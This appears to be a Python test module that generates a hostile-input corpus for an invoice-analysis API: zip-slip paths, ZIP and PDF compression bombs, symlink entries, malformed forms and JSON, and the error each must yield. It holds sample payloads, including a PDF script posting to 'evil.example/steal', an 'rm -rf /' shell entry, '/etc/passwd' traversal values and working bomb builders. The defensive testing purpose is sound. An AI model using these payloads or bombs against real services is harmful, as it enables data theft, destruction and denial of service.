"""Generates the hostile-input corpus: requests built to break the service, each with the outcome it must get.

Every case expects one of:
- a 4xx in the contract's error body (and, where it applies, the form or JSON field it names), or
- a 200 where each hostile ZIP entry is a per-file processing_error (with its error code) and every
  good file in the same batch is still judged, on the total it prints.

Run it to write the corpus to disk (one folder per case: the uploaded files, request.json and
expected.json):

    .venv/bin/python -m tests.hostile.build_corpus --out /tmp/hostile-corpus

tests/hostile/test_hostile_inputs.py builds the same cases in memory and sends each through the app.
Limits are deliberately small (CORPUS_SETTINGS) so bombs and "too many" cases stay cheap.
"""

from __future__ import annotations

import argparse
import functools
import io
import json
import os
import secrets
import stat
import struct
import warnings
import zipfile
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import asdict, dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

from tests import pdf_factory
from tests.conftest import cab_invoice, meal_invoice, policy_pdf
from tests.hostile import raw_pdf

ANALYZE = "/api/v1/analyze-invoices"
ANALYZE_STREAM = "/api/v1/analyze-invoices-stream"
CHAT = "/api/v1/chat"
CHAT_STREAM = "/api/v1/chat/stream"
MIB = 1024 * 1024

# make_settings(**CORPUS_SETTINGS): the limits every expected outcome below assumes.
CORPUS_SETTINGS: dict[str, Any] = {
    "max_invoices": 6,
    "max_file_size": 2 * MIB,
    "max_zip_size": 8 * MIB,
    "max_uncompressed_size": 16 * MIB,
    "max_compression_ratio": 100,
    "max_pages": 20,
    "chat_max_query_length": 500,
    "rate_limit_per_minute": 100_000,
    "max_document_seconds": 5.0,  # the watchdog's budget; only worker processes can be stopped
}
SUBMITTED_ON = "2024-12-31"
# Bombs need 64 MiB (ZIP) or 128 MiB (PDF) when unpacked; handling one may use a bounded part of
# that. A PDF is decoded within a 32 MiB budget, which zlib's output buffer can briefly hold twice.
ZIP_PEAK = 24 * MIB
PDF_PEAK = 80 * MIB
GOOD_TOTAL = Decimal("233.00")
MEAL_TOTAL = Decimal("1000.00")
HIDDEN_TOTAL = "99999.00"  # planted where a reader must not look (scripts, attachments)
PDF = "application/pdf"
ZIP = "application/zip"


@dataclass(frozen=True)
class Upload:
    filename: str
    content: bytes
    content_type: str


@dataclass(frozen=True)
class Expect:
    status: int
    error_field: str | None = None  # details[].field of a 4xx
    error: str | None = None  # the body's "error" name of a 4xx
    failed: Mapping[str, str] = field(default_factory=dict)  # filename -> processing_error code
    judged: Mapping[str, Decimal | None] = field(default_factory=dict)  # filename -> printed total
    employee_name: str | None = None  # the name the 200 must echo (normalised)


@dataclass(frozen=True)
class Case:
    name: str
    topic: str
    expect: Expect
    path: str = ANALYZE
    form: Mapping[str, str | list[str]] = field(default_factory=dict)
    files: tuple[tuple[str, Upload], ...] = ()  # (form field, upload); a field may repeat
    body: bytes | None = None  # a raw body instead of a form (JSON, garbage...)
    content_type: str | None = None
    max_peak: int | None = None  # bytes: tracemalloc's peak while the service handles it stays below
    forbidden: tuple[str, ...] = ()  # zip-slip targets: paths that must never come to exist
    # reads that never end: only a worker process can be stopped (a reading thread cannot), so
    # these run on an app with its real process pool
    needs_worker_pool: bool = False

    @property
    def is_analysis(self) -> bool:
        return self.path in (ANALYZE, ANALYZE_STREAM)


# ---------------------------------------------------------------- building blocks


def zip_of(
    entries: Sequence[tuple[str | zipfile.ZipInfo, bytes]], method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """A ZIP with entries in order; names may repeat (zipfile warns, but writes them)."""
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        with zipfile.ZipFile(buf, "w", method, compresslevel=9) as zf:
            for name, data in entries:
                zf.writestr(name, data)
    return buf.getvalue()


@functools.cache  # the corpus packs the same bombs several times
def zeros_entry(name: str, size: int) -> bytes:
    """A ZIP with one entry of `size` zero bytes, streamed in (never held whole in memory)."""
    buf = io.BytesIO()
    with (
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf,
        zf.open(name, "w", force_zip64=size > 0xFFFF0000) as out,
    ):
        chunk = bytes(MIB)
        for _ in range(size // MIB):
            out.write(chunk)
        out.write(bytes(size % MIB))
    return buf.getvalue()


def declare_size(archive: bytes, name: str, declared: int) -> bytes:
    """Rewrites the uncompressed size that the local header and central directory claim for `name`."""
    data = bytearray(archive)
    encoded = name.encode()
    for signature, name_at, size_at in ((b"PK\x01\x02", 46, 24), (b"PK\x03\x04", 30, 22)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            if data[at + name_at : at + name_at + len(encoded)] == encoded:
                struct.pack_into("<I", data, at + size_at, declared)
            start = at + 4
    return bytes(data)


def symlink_info(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # unix
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def with_raw_name(name_bytes: bytes, data: bytes, others: Sequence[tuple[str, bytes]]) -> bytes:
    """A ZIP whose first entry's name is stored as raw bytes without the UTF-8 flag (read as cp437)."""
    placeholder = "P" * len(name_bytes)
    archive = zip_of([(placeholder, data), *others])
    return archive.replace(placeholder.encode(), name_bytes)


def good_cab(number: str) -> bytes:
    return cab_invoice(number, "233.00", "20/12/2024")


def invoice_lines(number: str) -> list[str]:
    return [
        "Uber India Trip Receipt",
        f"Invoice No: {number}",
        "Date: 20/12/2024",
        "Rider: Rani Sharma",
        "Trip fare from Airport to Office",
        "Total: INR 233.00",
    ]


# ---------------------------------------------------------------- case makers


def batch_case(
    name: str,
    topic: str,
    hostile: Sequence[tuple[str | zipfile.ZipInfo, bytes]],
    failed: Mapping[str, str],
    judged: Mapping[str, Decimal | None] | None = None,
    *,
    path: str = ANALYZE,
    max_peak: int | None = None,
    forbidden: tuple[str, ...] = (),
    needs_worker_pool: bool = False,
) -> Case:
    """A batch of hostile entries plus one good invoice, which must still be judged."""
    good = f"good-{name}.pdf"
    archive = zip_of([*hostile, (good, good_cab(f"G-{name}"))])
    return Case(
        name=name,
        topic=topic,
        path=path,
        form=_form(name),
        files=_files(archive),
        expect=Expect(200, failed=dict(failed), judged={good: GOOD_TOTAL, **(judged or {})}),
        max_peak=max_peak,
        forbidden=forbidden,
        needs_worker_pool=needs_worker_pool,
    )


def rejected(
    name: str,
    topic: str,
    status: int,
    field_name: str | None,
    *,
    form: Mapping[str, str | list[str]] | None = None,
    files: tuple[tuple[str, Upload], ...] | None = None,
    body: bytes | None = None,
    content_type: str | None = None,
    path: str = ANALYZE,
    error: str | None = None,
    max_peak: int | None = None,
    needs_worker_pool: bool = False,
) -> Case:
    return Case(
        name=name,
        topic=topic,
        path=path,
        needs_worker_pool=needs_worker_pool,
        form=_form(name) if form is None else form,
        files=(_files() if body is None else ()) if files is None else files,
        body=body,
        content_type=content_type,
        expect=Expect(status, error_field=field_name, error=error),
        max_peak=max_peak,
    )


def _form(name: str) -> dict[str, str]:
    # an employee per case: no case sees another's stored invoices as duplicates
    return {"employee_name": f"Hostile {name}", "submitted_on": SUBMITTED_ON}


def _files(archive: bytes | None = None, policy: bytes | None = None) -> tuple[tuple[str, Upload], ...]:
    return (
        ("policy_file", Upload("policy.pdf", policy if policy is not None else policy_pdf(), PDF)),
        ("invoices_zip", Upload("invoices.zip", archive if archive is not None else _plain_zip(), ZIP)),
    )


def _plain_zip() -> bytes:
    return zip_of([("cab.pdf", good_cab("PLAIN-1"))])


def chat(name: str, status: int, field_name: str | None, body: bytes, *, path: str = CHAT, **kw: Any) -> Case:
    return rejected(
        name,
        "chat",
        status,
        field_name,
        form={},
        files=(),
        body=body,
        path=path,
        content_type=kw.pop("content_type", "application/json"),
        **kw,
    )


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


# ---------------------------------------------------------------- the corpus


def zip_slip_cases(token: str) -> Iterator[Case]:
    content = good_cab(f"SLIP-{token}")
    traversal = {
        "zip_slip_dotdot": f"../../zipslip-{token}-dotdot.pdf",
        "zip_slip_deep_dotdot": f"invoices/./../../../../zipslip-{token}-deep.pdf",
        "zip_slip_absolute": f"/tmp/zipslip-{token}-abs.pdf",
        "zip_slip_backslash": f"..\\..\\zipslip-{token}-backslash.pdf",
        "zip_slip_drive_letter": f"C:\\Windows\\Temp\\zipslip-{token}-drive.pdf",
        "zip_slip_unc_path": f"\\\\evil-host\\share\\zipslip-{token}-unc.pdf",
    }
    for name, entry in traversal.items():
        target = entry.replace("\\", "/")
        shown = "/".join(p for p in target.split("/") if p not in ("", ".", ".."))
        yield batch_case(
            name, "zip slip", [(entry, content)], {shown: "UnsupportedFile"}, forbidden=(target,)
        )
    # a symlink entry: the service never extracts, so it must not follow one either
    yield batch_case(
        "zip_symlink_entry",
        "zip slip",
        [(symlink_info("passwd-link.pdf"), b"/etc/passwd")],
        {"passwd-link.pdf": "UnsupportedFile"},
    )
    # folders inside the ZIP are fine, with either separator
    yield batch_case(
        "zip_subfolders_are_fine",
        "zip slip",
        [("2024/december/cab.pdf", good_cab("SUB-1")), ("2024\\november\\cab.pdf", good_cab("SUB-2"))],
        {},
        {"2024/december/cab.pdf": GOOD_TOTAL, "2024/november/cab.pdf": GOOD_TOTAL},
    )


def bomb_cases() -> Iterator[Case]:
    limit = CORPUS_SETTINGS["max_file_size"]
    # under the per-file limit, but 1.5 MiB of zeros packs to ~7 KB (ratio ~220:1, the limit is 100)
    ratio = zeros_entry("bomb-ratio.pdf", limit * 3 // 4)
    yield _with_good("zip_bomb_ratio", ratio, {"bomb-ratio.pdf": "UnsupportedFile"})
    # the directory honestly declares 64 MiB: over the whole-archive limit, refused unread
    yield rejected(
        "zip_bomb_huge_declared_total",
        "zip bomb",
        422,
        "invoices_zip",
        files=_files(zeros_entry("bomb.pdf", 64 * MIB)),
        max_peak=ZIP_PEAK,
    )
    # 64 MiB of zeros whose directory claims 900 KB: reading must stop at the claim, not at 64 MiB
    liar = declare_size(zeros_entry("liar.pdf", 64 * MIB), "liar.pdf", 900 * 1024)
    yield _with_good("zip_bomb_lies_small", liar, {"liar.pdf": "UnsupportedFile"})
    # a directory that claims ~4 GB for one small entry: refused before anything is unpacked
    boast = declare_size(zip_of([("boast.pdf", good_cab("BOAST"))]), "boast.pdf", 4_000_000_000)
    yield rejected(
        "zip_bomb_declared_4gb", "zip bomb", 422, "invoices_zip", files=_files(boast), max_peak=ZIP_PEAK
    )
    # nested: a ZIP in the ZIP holding 64 MiB of zeros; and two levels deep
    inner = zeros_entry("inner-bomb.pdf", 64 * MIB)
    yield batch_case(
        "zip_bomb_nested",
        "zip bomb",
        [("inner.zip", inner)],
        {"inner.zip": "UnsupportedFile"},
        max_peak=ZIP_PEAK,
    )
    deeper = zip_of([("level2.zip", zip_of([("level3.zip", inner)]))])
    yield batch_case(
        "zip_bomb_nested_twice",
        "zip bomb",
        [("level1.zip", deeper)],
        {"level1.zip": "UnsupportedFile"},
        max_peak=ZIP_PEAK,
    )
    # a ZIP renamed .pdf: read as bytes (no unpacking), it is simply not a PDF
    yield batch_case(
        "zip_disguised_as_pdf",
        "zip bomb",
        [("archive.pdf", inner)],
        {"archive.pdf": "CorruptDocument"},
        max_peak=ZIP_PEAK,
    )


def _with_good(name: str, bomb_zip: bytes, failed: Mapping[str, str]) -> Case:
    """Adds a good invoice to an archive that already holds a bomb entry."""
    good = f"good-{name}.pdf"
    buf = io.BytesIO(bomb_zip)
    with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(good, good_cab(f"G-{name}"))
    return Case(
        name=name,
        topic="zip bomb",
        form=_form(name),
        files=_files(buf.getvalue()),
        expect=Expect(200, failed=dict(failed), judged={good: GOOD_TOTAL}),
        max_peak=ZIP_PEAK,
    )


def entry_cases() -> Iterator[Case]:
    limit = CORPUS_SETTINGS["max_invoices"]
    too_many = zip_of([(f"cab-{i}.pdf", good_cab(f"MANY-{i}")) for i in range(limit + 1)])
    yield rejected("too_many_entries", "entries", 422, "invoices_zip", files=_files(too_many))
    flood = zip_of([(f"f/{i}.pdf", b"") for i in range(5_000)], zipfile.ZIP_STORED)
    yield rejected("entry_flood_5000", "entries", 422, "invoices_zip", files=_files(flood), max_peak=ZIP_PEAK)
    # macOS metadata and dot-files are skipped, so they never count towards the limit
    padded = [(f"__MACOSX/._pad-{i}.pdf", b"\x00\x05\x16\x07") for i in range(20)]
    padded += [(".DS_Store", b"\x00\x00\x00\x01Bud1"), ("sub/.hidden.pdf", b"x")]
    padded += [(f"cab-{i}.pdf", good_cab(f"PAD-{i}")) for i in range(limit - 1)]
    yield batch_case(
        "macosx_entries_skipped",
        "entries",
        padded,
        {},
        {f"cab-{i}.pdf": GOOD_TOTAL for i in range(limit - 1)},
    )
    yield batch_case(
        "nested_archives",
        "entries",
        [
            ("more.zip", zip_of([("x.pdf", good_cab("N-1"))])),
            ("old.rar", b"Rar!\x1a\x07\x00"),
            ("b.tar.gz", b"\x1f\x8b"),
        ],
        {"more.zip": "UnsupportedFile", "old.rar": "UnsupportedFile", "b.tar.gz": "UnsupportedFile"},
    )
    yield batch_case(
        "non_pdf_entries",
        "entries",
        [
            ("notes.txt", b"hello"),
            ("photo.jpg", b"\xff\xd8\xff\xe0"),
            ("run.sh", b"#!/bin/sh\nrm -rf /\n"),
            ("invoice.pdf.exe", b"MZ\x90\x00"),
            ("no-extension", good_cab("NOEXT")),
        ],
        {
            "notes.txt": "UnsupportedFile",
            "photo.jpg": "CorruptDocument",  # images are read now; four bytes of JPEG header are damaged
            "run.sh": "UnsupportedFile",
            "invoice.pdf.exe": "UnsupportedFile",
            "no-extension": "UnsupportedFile",
        },
    )
    yield batch_case(
        "upper_case_extension", "entries", [("CAB.PDF", good_cab("UP-1"))], {}, {"CAB.PDF": GOOD_TOTAL}
    )
    # two different invoices under one name: both judged, told apart by their names
    yield batch_case(
        "duplicate_entry_names",
        "entries",
        [("cab.pdf", good_cab("DUP-1")), ("cab.pdf", meal_invoice("DUP-2", "600.00", "400.00"))],
        {},
        {"cab.pdf": None, "cab (2).pdf": None},
    )
    # the same file twice under one name: both judged, the second flagged as a duplicate
    same = good_cab("TWIN-1")
    yield batch_case(
        "duplicate_entry_same_bytes",
        "entries",
        [("twin.pdf", same), ("twin.pdf", same)],
        {},
        {"twin.pdf": GOOD_TOTAL, "twin (2).pdf": GOOD_TOTAL},
    )


def unicode_cases() -> Iterator[Case]:
    names = {
        "unicode_devanagari_name": ("रसीद-टैक्सी.pdf", "रसीद-टैक्सी.pdf"),
        "unicode_nfd_name": ("cafe\u0301-reçu.pdf", "café-reçu.pdf"),
        "unicode_bidi_override_name": ("invoice\u202efdp.exe.pdf", "invoicefdp.exe.pdf"),
        "unicode_emoji_name": ("🧾 receipt.pdf", "🧾 receipt.pdf"),
        "control_chars_in_entry_name": ("bell\x07\x1b[31m.pdf", "bell[31m.pdf"),
        "overlong_entry_name": ("x" * 400 + ".pdf", ("x" * 400 + ".pdf")[-255:]),
    }
    for case, (raw, shown) in names.items():
        yield batch_case(case, "names", [(raw, good_cab(f"U-{case}"))], {}, {shown: GOOD_TOTAL})
    archive = with_raw_name(b"caf\x82.pdf", good_cab("CP437"), [("good-cp437.pdf", good_cab("G-CP437"))])
    yield Case(  # 0x82 is 'é' in cp437, the encoding of names without the UTF-8 flag
        "cp437_entry_name",
        "names",
        Expect(200, judged={"café.pdf": GOOD_TOTAL, "good-cp437.pdf": GOOD_TOTAL}),
        form=_form("cp437_entry_name"),
        files=_files(archive),
    )


def pdf_cases() -> Iterator[Case]:
    lines = invoice_lines("PDF-1")
    bad = {
        "pdf_corrupt": ("corrupt.pdf", pdf_factory.broken_pdf(), "CorruptDocument"),
        "pdf_truncated": ("truncated.pdf", pdf_factory.truncated_pdf(good_cab("T-1")), "CorruptDocument"),
        "pdf_empty_file": ("empty.pdf", b"", "CorruptDocument"),
        "pdf_is_html": (
            "page.pdf",
            b"<!doctype html><html><body>Total: INR 99999</body></html>",
            "CorruptDocument",
        ),
        "pdf_encrypted": ("locked.pdf", pdf_factory.encrypted_pdf(*lines), "EncryptedDocument"),
        "pdf_image_only": ("scan.pdf", pdf_factory.image_only_pdf(), "NoTextLayer"),
        "pdf_1200_pages": ("statement.pdf", raw_pdf.many_pages(1200), "TooManyPages"),
        "pdf_page_tree_cycle": ("loop.pdf", raw_pdf.page_tree_cycle(), "CorruptDocument"),
        "pdf_javascript_without_text": (
            "script-only.pdf",
            raw_pdf.with_javascript([], "app.alert('Total: INR 99999.00')"),
            "NoTextLayer",
        ),
        "pdf_deeply_nested_objects": ("deep.pdf", _deeply_nested(20_000), "NoTextLayer"),
    }
    for case, (name, content, code) in bad.items():
        yield batch_case(case, "pdf", [(name, content)], {name: code})
    # the reader must judge the page text: never the script or the attachment's planted total
    script = f"app.alert('Total: INR {HIDDEN_TOTAL}'); this.submitForm('http://evil.example/steal');"
    yield batch_case(
        "pdf_with_javascript",
        "pdf",
        [("scripted.pdf", raw_pdf.with_javascript(lines, script))],
        {},
        {"scripted.pdf": GOOD_TOTAL},
    )
    attachment = f"Invoice No: X-9\nTotal: INR {HIDDEN_TOTAL}\n".encode()
    yield batch_case(
        "pdf_with_embedded_file",
        "pdf",
        [("attached.pdf", raw_pdf.with_embedded_file(lines, "real-invoice.txt", attachment))],
        {},
        {"attached.pdf": GOOD_TOTAL},
    )
    owner_only = pdf_factory.encrypted_pdf(*invoice_lines("OWNER-1"), user_password="")
    yield batch_case(
        "pdf_encrypted_no_user_password",
        "pdf",
        [("owner-only.pdf", owner_only)],
        {},
        {"owner-only.pdf": GOOD_TOTAL},
    )
    # a read that never ends: its worker is killed at the budget, the file is TooSlow, the batch goes on
    for path in (ANALYZE, ANALYZE_STREAM):
        yield batch_case(
            f"pdf_self_referencing_contents{'_stream' if path == ANALYZE_STREAM else ''}",
            "pdf",
            [("endless.pdf", raw_pdf.self_referencing_contents())],
            {"endless.pdf": "TooSlow"},
            path=path,
            needs_worker_pool=True,
        )
    # compression bombs inside a PDF: a few hundred KB (or a few KB) that inflate to 128 MiB
    yield batch_case(
        "pdf_flate_bomb",
        "pdf",
        [("inflate.pdf", raw_pdf.flate_bomb(lines, 128))],
        {"inflate.pdf": "UnsupportedFile"},
        max_peak=PDF_PEAK,
    )
    yield batch_case(
        "pdf_double_flate_bomb",
        "pdf",
        [("inflate2.pdf", raw_pdf.flate_bomb(lines, 128, passes=2))],
        {"inflate2.pdf": "UnsupportedFile"},
        max_peak=PDF_PEAK,
    )


def _deeply_nested(depth: int) -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Junk " + b"[" * depth + b"]" * depth + b" >>"
    return raw_pdf.assemble(
        [
            catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def policy_cases() -> Iterator[Case]:
    def policy(
        name: str, content: bytes, status: int, error: str | None = None, peak: int | None = None
    ) -> Case:
        return rejected(
            name, "policy", status, "policy_file", files=_files(policy=content), error=error, max_peak=peak
        )

    yield policy("policy_not_a_pdf", b"Meals are reimbursed up to INR 1000 per meal.", 415)
    yield policy("policy_is_a_zip", _plain_zip(), 415)
    yield policy("policy_corrupt_pdf", pdf_factory.broken_pdf(), 422, "CorruptDocument")
    yield policy(
        "policy_without_rules", pdf_factory.text_pdf("Welcome to Acme.", "We value our people."), 422
    )
    yield policy("policy_encrypted", pdf_factory.encrypted_pdf("Meals up to INR 1000 per meal."), 422)
    yield policy("policy_image_only", pdf_factory.image_only_pdf(), 422, "NoTextLayer")
    yield policy("policy_1200_pages", raw_pdf.many_pages(1200), 422, "TooManyPages")
    # a policy read that never ends: stopped at the budget, refused like any unreadable policy
    endless = raw_pdf.self_referencing_contents()
    yield rejected(
        "policy_self_referencing_contents",
        "policy",
        422,
        "policy_file",
        files=_files(policy=endless),
        error="TooSlow",
        needs_worker_pool=True,
    )
    yield policy(
        "policy_flate_bomb", raw_pdf.flate_bomb(["Meals up to INR 1000 per meal."], 128), 422, peak=PDF_PEAK
    )
    too_big = b"%PDF-1.4\n" + b"0" * (CORPUS_SETTINGS["max_file_size"] + 1)
    yield policy("policy_too_large", too_big, 413, "PayloadTooLarge")


def form_cases() -> Iterator[Case]:
    ok = _form("form")
    pdf_upload = Upload("policy.pdf", policy_pdf(), PDF)
    zip_upload = Upload("invoices.zip", _plain_zip(), ZIP)
    yield rejected("empty_zip", "form", 422, "invoices_zip", files=_files(zip_of([])))
    only_junk = zip_of([("folder/", b""), ("__MACOSX/._a.pdf", b"x"), (".DS_Store", b"x")])
    yield rejected("zip_of_only_metadata", "form", 422, "invoices_zip", files=_files(only_junk))
    yield rejected("zip_corrupt", "form", 422, "invoices_zip", files=_files(b"PK\x03\x04" + os.urandom(512)))
    yield rejected("zip_is_a_pdf", "form", 415, "invoices_zip", files=_files(archive=policy_pdf()))
    too_big = b"PK\x03\x04" + b"\x00" * (CORPUS_SETTINGS["max_zip_size"] + 1)
    yield rejected("zip_too_large", "form", 413, "invoices_zip", files=_files(too_big))
    yield rejected(
        "json_body", "form", 415, None, form={}, files=(), body=_json(ok), content_type="application/json"
    )
    yield rejected(
        "urlencoded_body",
        "form",
        415,
        None,
        form={},
        files=(),
        body=b"employee_name=Rani",
        content_type="application/x-www-form-urlencoded",
    )
    yield rejected(
        "plain_text_body", "form", 415, None, form={}, files=(), body=b"hello", content_type="text/plain"
    )
    yield rejected("no_content_type", "form", 415, None, form={}, files=(), body=b"\x00\x01", content_type="")
    yield rejected(
        "multipart_without_boundary",
        "form",
        400,
        None,
        form={},
        files=(),
        body=b'--x\r\nContent-Disposition: form-data; name="employee_name"\r\n\r\nRani\r\n--x--\r\n',
        content_type="multipart/form-data",
    )
    yield rejected(
        "multipart_field_not_utf8",
        "form",
        400,
        None,
        form={},
        files=(),
        body=b'--b0undary\r\nContent-Disposition: form-data; name="employee_name"\r\n\r\nR\xffni\r\n--b0undary--\r\n',
        content_type="multipart/form-data; boundary=b0undary",
    )
    yield rejected("missing_employee_name", "form", 400, "employee_name", form={"submitted_on": SUBMITTED_ON})
    yield rejected("missing_policy_file", "form", 400, "policy_file", files=(("invoices_zip", zip_upload),))
    yield rejected("missing_invoices_zip", "form", 400, "invoices_zip", files=(("policy_file", pdf_upload),))
    yield rejected(
        "employee_name_as_file",
        "form",
        400,
        "employee_name",
        form={},
        files=(*_files(), ("employee_name", Upload("name.txt", b"Rani", "text/plain"))),
    )
    yield rejected(
        "policy_file_as_text",
        "form",
        400,
        "policy_file",
        form={**ok, "policy_file": "policy.pdf"},
        files=(("invoices_zip", zip_upload),),
    )
    twice = ["Hostile employee_name_twice", "Hostile someone else"]
    yield rejected("employee_name_twice", "form", 400, "employee_name", form={"employee_name": twice})
    yield rejected(
        "policy_file_twice", "form", 400, "policy_file", files=(*_files(), ("policy_file", pdf_upload))
    )
    names = {
        "employee_name_overlong": "R" * 101,
        "employee_name_huge": "R" * 200_000,
        "employee_name_nul": "Rani\x00Sharma",
        "employee_name_escape_sequence": "Rani\x1b[2J",
        "employee_name_bidi_override": "Rani\u202eamrahS",
        "employee_name_delete_char": "Rani\x7f",
        "employee_name_blank": " \t ",
    }
    for case, name in names.items():
        yield rejected(case, "form", 400, "employee_name", form={"employee_name": name})
    yield Case(
        "employee_name_newlines_normalised",
        "form",
        Expect(200, judged={"cab.pdf": GOOD_TOTAL}, employee_name="Rani Newline Sharma"),
        form={"employee_name": "  Rani\n Newline\r\n\tSharma ", "submitted_on": SUBMITTED_ON},
        files=_files(),
    )
    dates = {
        "date_day_first": "31/12/2024",
        "date_february_30": "2024-02-30",
        "date_month_13": "2024-13-01",
        "date_words": "tomorrow",
        "date_with_time": "2024-12-31T10:00:00",
        "date_fullwidth_digits": "２０２４-１２-３１",
        "date_far_future": "9999-12-31",
        "date_sql_injection": "2024-12-31' OR '1'='1",
    }
    for case, when in dates.items():
        yield rejected(case, "form", 400, "submitted_on", form={**_form(case), "submitted_on": when})


def chat_cases() -> Iterator[Case]:
    limit = CORPUS_SETTINGS["chat_max_query_length"]
    yield chat("chat_malformed_json", 400, None, b'{"query": "how many invoices"')
    yield chat("chat_json_array", 400, None, b'["how many invoices"]')
    yield chat("chat_json_string", 400, None, b'"how many invoices"')
    yield chat("chat_empty_body", 400, None, b"")
    yield chat("chat_not_utf8", 400, None, b'{"query": "\xff\xfe caf\xe9"}')
    yield chat(
        "chat_deeply_nested_json",
        400,
        None,
        b'{"query": "q", "filters": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
    )
    yield chat("chat_missing_query", 400, "query", _json({"session_id": None}))
    yield chat("chat_query_not_a_string", 400, "query", _json({"query": 42}))
    yield chat("chat_query_empty", 400, "query", _json({"query": ""}))
    yield chat("chat_query_blank", 400, "query", _json({"query": "   \n\t "}))
    yield chat("chat_query_overlong", 400, "query", _json({"query": "how many " + "x" * limit}))
    yield chat("chat_query_huge", 400, "query", _json({"query": "x" * 300_000}))
    yield chat(
        "chat_stream_query_overlong", 400, "query", _json({"query": "q" * (limit + 1)}), path=CHAT_STREAM
    )
    yield chat("chat_stream_malformed_json", 400, None, b"{query: nope}", path=CHAT_STREAM)
    yield chat(
        "chat_session_id_traversal",
        400,
        "session_id",
        _json({"query": "hi", "session_id": "../../etc/passwd"}),
    )
    yield chat(
        "chat_filter_bad_date",
        400,
        "filters.date_from",
        _json({"query": "hi", "filters": {"date_from": "yesterday"}}),
    )
    yield chat(
        "chat_filter_negative_amount",
        400,
        "filters.min_amount",
        _json({"query": "hi", "filters": {"min_amount": -5}}),
    )
    yield chat(
        "chat_filter_unknown_status",
        400,
        "filters.status",
        _json({"query": "hi", "filters": {"status": "approved"}}),
    )
    yield chat(
        "chat_include_sources_not_bool",
        400,
        "include_sources",
        _json({"query": "hi", "include_sources": "yes"}),
    )
    yield chat(
        "chat_form_encoded_body", 400, None, b"query=hi", content_type="application/x-www-form-urlencoded"
    )


def stream_cases(token: str) -> Iterator[Case]:
    """The streaming endpoint gets the same per-file treatment, as error events beside result events."""
    yield batch_case(
        "stream_zip_slip_and_corrupt",
        "stream",
        [(f"../zipslip-{token}-stream.pdf", good_cab("S-1")), ("corrupt.pdf", pdf_factory.broken_pdf())],
        {f"zipslip-{token}-stream.pdf": "UnsupportedFile", "corrupt.pdf": "CorruptDocument"},
        path=ANALYZE_STREAM,
        forbidden=(f"../zipslip-{token}-stream.pdf",),
    )
    yield batch_case(
        "stream_pdf_flate_bomb",
        "stream",
        [("inflate.pdf", raw_pdf.flate_bomb(invoice_lines("S-2"), 128))],
        {"inflate.pdf": "UnsupportedFile"},
        path=ANALYZE_STREAM,
        max_peak=PDF_PEAK,
    )
    yield rejected(
        "stream_empty_zip", "stream", 422, "invoices_zip", files=_files(zip_of([])), path=ANALYZE_STREAM
    )
    yield rejected(
        "stream_missing_employee_name", "stream", 400, "employee_name", form={}, path=ANALYZE_STREAM
    )


def build_corpus(token: str | None = None) -> list[Case]:
    """Every case; `token` makes the zip-slip targets unique to this run."""
    token = token or secrets.token_hex(4)
    cases = [
        *zip_slip_cases(token),
        *bomb_cases(),
        *entry_cases(),
        *unicode_cases(),
        *pdf_cases(),
        *policy_cases(),
        *form_cases(),
        *chat_cases(),
        *stream_cases(token),
    ]
    names = [c.name for c in cases]
    assert len(names) == len(set(names)), "case names must be unique"
    return cases


# ---------------------------------------------------------------- writing it out


def write_corpus(cases: Sequence[Case], out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    manifest = []
    for case in cases:
        folder = out / case.name
        folder.mkdir(exist_ok=True)
        uploads = []
        for i, (form_field, upload) in enumerate(case.files):
            stored = f"{i:02d}-{form_field}.bin"
            (folder / stored).write_bytes(upload.content)
            uploads.append(
                {
                    "field": form_field,
                    "filename": upload.filename,
                    "content_type": upload.content_type,
                    "stored_as": stored,
                }
            )
        if case.body is not None:
            (folder / "body.bin").write_bytes(case.body)
        request = {"path": case.path, "form": case.form, "files": uploads, "content_type": case.content_type}
        expected = {k: (dict(v) if isinstance(v, Mapping) else v) for k, v in asdict(case.expect).items()}
        (folder / "request.json").write_text(json.dumps(request, indent=2, ensure_ascii=False) + "\n")
        (folder / "expected.json").write_text(
            json.dumps(expected, indent=2, ensure_ascii=False, default=str) + "\n"
        )
        manifest.append(
            {"name": case.name, "topic": case.topic, "status": case.expect.status, "max_peak": case.max_peak}
        )
    summary = {"settings": CORPUS_SETTINGS, "cases": manifest}
    (out / "manifest.json").write_text(json.dumps(summary, indent=2) + "\n")


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--out", type=Path, required=True, help="directory to write the corpus to")
    args = parser.parse_args(argv)
    cases = build_corpus()
    write_corpus(cases, args.out)
    topics: dict[str, int] = {}
    for case in cases:
        topics[case.topic] = topics.get(case.topic, 0) + 1
    print(f"{len(cases)} cases written to {args.out}: " + ", ".join(f"{t} {n}" for t, n in topics.items()))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
